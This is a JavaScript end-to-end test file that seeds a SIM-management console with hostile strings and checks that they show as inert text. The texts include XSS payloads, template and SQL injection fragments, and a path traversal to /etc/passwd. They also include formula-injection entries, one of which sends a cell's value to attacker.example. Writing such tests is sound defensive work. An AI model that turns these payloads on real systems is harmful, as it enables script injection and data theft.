// Texts that mean harm, or merely no good, wherever the partner's API has room for one. They are text and stay text.
import assert from 'node:assert/strict'

const harm = name => `window.harmed='${name}'`

export const texts = {
  markup: `<b>bold</b><img src=x onerror="${harm('img')}"><svg/onload=${harm('svg')}>`,
  script: `</td></table><script>${harm('script')}</script><style>*{display:none}</style>`,
  attribute: `" onmouseover="${harm('attribute')}" x='`,
  entity: '&lt;script&gt; &amp;amp; &#x3C;b&#x3E; &nbsp;',
  address: `javascript:${harm('address')}`,
  template: '{{constructor.constructor("window.harmed=1")()}} ${window.harmed=1} #{7*7}',
  rightToLeft: 'Kasse \u202Egnp.exe\u202C שלום עולם',
  emoji: 'Kasse 👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301\u0302\u0303\u0304 Zürich ﷽',
  quotes: `O'Brien "the \\"boss\\"", «so» \`it\`; drop table simsync.sim; --`,
  invisible: 'zero\u200Bwidth\u00ADsoft\uFEFFbom',
  lines: 'two\nlines\tand a tab\r\nand one more',
  formula: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  plus: '+1+cmd|\' /C calc\'!A0',
  at: '@SUM(1+1)*cmd',
  minus: '-2+3',
  path: '../../../etc/passwd?state=low&q=%00#/removals',
  prototype: '__proto__',
  null: 'null',
  long: 'W'.repeat(3000),
  blank: '   '
}

const names = Object.keys(texts)
const idOf = name => String(10_000_101 + names.indexOf(name))

// An id is a text as well, and stands in addresses.
export const oddId = `0/..%2F?a=b&c#d "<i>' é`

// Before the first sweep, so that the fleet is found so.
export async function layOut(bed) {
  for (const [name, text] of Object.entries(texts))
    await bed.change(idOf(name), {
      description: text, tariff_name: text, profile: text, caller_ids: [text.slice(0, 60), '37251000000'], sim_id: text, imei: text.slice(0, 60)
    })
  // One of them is the tariff of so many that the first page shows it.
  for (let sim = 10_001_000; sim < 10_001_700; sim++) await bed.change(String(sim), { tariff_name: texts.markup })
  await bed.add(oddId, { description: 'the one with the odd id', iccid_plastic: '8997201999999994656' })
}

// None of them did what it says, nor made an element. (The console's own bold words are others.)
async function isUnharmed(page) {
  const [harmed, made] = await page.evaluate(() => {
    const strange = document.querySelectorAll('main :is(img, script, style, iframe, [onload], [onerror], [onmouseover])')
    const bold = [...document.querySelectorAll('main b')].filter(({ textContent }) => textContent === 'bold')
    return [window.harmed ?? null, [...strange, ...bold].map(({ outerHTML }) => outerHTML)]
  })
  assert.equal(harmed, null)
  assert.deepEqual(made, [], 'a text became elements')
}

export function hostileTexts(stage) {
  stage.scene('hostile texts are shown as they are, in a list', {}, async profile => {
    const { page } = profile
    await profile.go('#/sims?q=100001&limit=200')
    for (const [name, text] of Object.entries(texts)) {
      const cells = await profile.row(idOf(name)).locator('td').allTextContents()
      if (text.trim() !== '') assert.ok(cells.some(cell => cell.includes(text)), `${name} is shown as ${JSON.stringify(cells)}`)
    }
    await isUnharmed(page)
  })

  stage.scene("and on a SIM's page, in its events, in filters and on the first page", {}, async profile => {
    const { page, bed } = profile
    for (const [name, text] of Object.entries(texts)) {
      await profile.go(`#/sim/main/${idOf(name)}`)
      if (text.trim() !== '') assert.ok((await page.getByRole('main').textContent()).includes(text), name)
      await isUnharmed(page)
    }
    for (const text of [texts.markup, texts.script, texts.prototype, texts.quotes]) {
      await profile.go(`#/sims?tariff=${encodeURIComponent(text)}`)
      await profile.row(idOf(Object.keys(texts).find(name => texts[name] === text))).waitFor()
      await isUnharmed(page)
    }
    await profile.go('#/events')
    for (const name of ['markup', 'script']) {
      await bed.change(idOf(name), { description: `${texts[name]} again` })
      await page.getByText(`${texts[name]} again`).first().waitFor()
    }
    await isUnharmed(page)
    await profile.go('#/')
    await page.getByText(texts.markup).first().waitFor()
    await isUnharmed(page)
  })

  stage.scene('an odd id is found, opened and linked', {}, async profile => {
    const { page } = profile
    await profile.go('#/sims?q=994656')
    await profile.rows(1)
    await profile.row(oddId).getByRole('link').first().click()
    await page.getByRole('heading', { level: 1 }).filter({ hasText: oddId }).waitFor()
    await page.getByText('the one with the odd id').first().waitFor()
    await page.reload()
    await page.getByText('the one with the odd id').first().waitFor()
  })
}
